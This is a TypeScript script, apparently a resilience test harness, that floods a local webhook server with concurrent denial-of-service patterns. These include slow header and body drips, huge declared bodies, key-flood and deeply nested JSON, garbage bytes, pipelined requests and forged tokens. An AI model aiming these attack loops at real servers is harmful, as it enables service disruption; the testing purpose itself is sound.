// Attacks a server on many connections at once, until its parent ends it. The attacker has a leaked callback URL.
import { createConnection, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [portText = '', leaked = '', path = ''] = process.argv.slice(2);
const port = Number(portText);
const MEBIBYTE = 1024 * 1024;
process.on('disconnect', () => process.exit());

const post = (target: string, header: string) =>
  `POST ${target} HTTP/1.1\r\nhost: x\r\n${header}\r\n\r\n`;
const withLength = (target: string, body: string) =>
  post(target, `content-length: ${Buffer.byteLength(body)}`) + body;

function open(): Socket {
  const socket = createConnection(port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.resume();
  return socket;
}

const closed = (socket: Socket) =>
  new Promise<void>((resolve) => (socket.destroyed ? resolve() : socket.once('close', resolve)));

/** Sends, and waits until the server closes the connection, for `ms` at most. */
async function sendAndWait(data: string | Buffer, ms: number): Promise<void> {
  const socket = open();
  socket.write(data);
  await Promise.race([closed(socket), pause(ms)]);
  socket.destroy();
}

/** Writes a piece again and again until the server closes the connection. */
async function drip(
  start: string,
  piece: string,
  everyMs: number,
  bytes = Infinity,
): Promise<void> {
  const socket = open();
  socket.write(start);
  for (let sent = 0; sent < bytes && !socket.destroyed; sent += piece.length) {
    socket.write(piece);
    if (everyMs > 0 || socket.writableNeedDrain) await pause(Math.max(1, everyMs));
  }
  await Promise.race([closed(socket), pause(5000)]);
  socket.destroy();
}

const members = Array.from({ length: 90_000 }, (_, index) => `"${index.toString(36)}":1`).join();
const keys = `{"event_type":"ASYNC_TASK_RESULT","payload":{${members}}}`;
const deep = '['.repeat(MEBIBYTE - 1);
const garbage = () => Buffer.from(Array.from({ length: 400 }, () => Math.random() * 256));
const forged = `${path}?token=nwt1.abcdefgh.eyJlIjoibm92aXRhIn0.${'A'.repeat(43)}`;
const zeros = ' '.repeat(65_536);

/** How many at once, and what each does again and again. */
const attacks: readonly (readonly [count: number, attack: () => Promise<void>])[] = [
  [30, () => sendAndWait(withLength(forged, '{}'), 2000)],
  [10, () => drip(post(path, 'content-length: 100000000'), zeros, 0, 10 * MEBIBYTE)],
  [10, () => drip(post(leaked, 'content-length: 100000000'), zeros, 0, 10 * MEBIBYTE)],
  [300, () => drip(`POST ${leaked} HTTP/1.1\r\n`, 'x-a: b\r\n', 1000)],
  [300, () => drip(post(leaked, 'content-length: 1000000'), ' '.repeat(1000), 500)],
  [40, () => drip(post(leaked, 'content-length: 1000000') + ' '.repeat(900_000), ' ', 500)],
  [6, () => sendAndWait(withLength(leaked, keys), 5000)],
  [6, () => sendAndWait(withLength(leaked, deep), 5000)],
  [10, () => sendAndWait(garbage(), 1000)],
  [300, () => sendAndWait('', 4000)],
  [10, () => sendAndWait(withLength(leaked, '{}').repeat(100), 500)],
];

for (const [count, attack] of attacks) {
  for (let index = 0; index < count; index += 1) void again(attack);
}

async function again(attack: () => Promise<void>): Promise<never> {
  await pause(Math.random() * 1000);
  for (;;) {
    await attack();
    await pause(20 + Math.random() * 30);
  }
}
